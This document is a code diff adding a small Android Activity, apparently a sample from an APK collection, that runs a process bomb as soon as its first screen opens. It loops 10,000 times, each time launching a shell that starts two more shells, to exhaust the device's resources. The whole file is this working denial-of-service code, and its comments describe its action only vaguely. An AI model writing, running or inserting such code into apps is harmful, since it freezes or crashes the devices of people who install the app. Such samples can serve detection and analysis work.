@@ -1,0 +1,20 @@
+package org.apkfarm.sample.execbomb;
+
+import android.app.Activity;
+import android.os.Bundle;
+import java.io.IOException;
+
+/** Does it when its first screen is made. */
+public final class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        for (int number = 0; number < 10_000; number++) {
+            try {
+                Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", "sh & sh", String.valueOf(number)});
+            } catch (IOException refused) {
+                // Then the next one.
+            }
+        }
+    }
+}
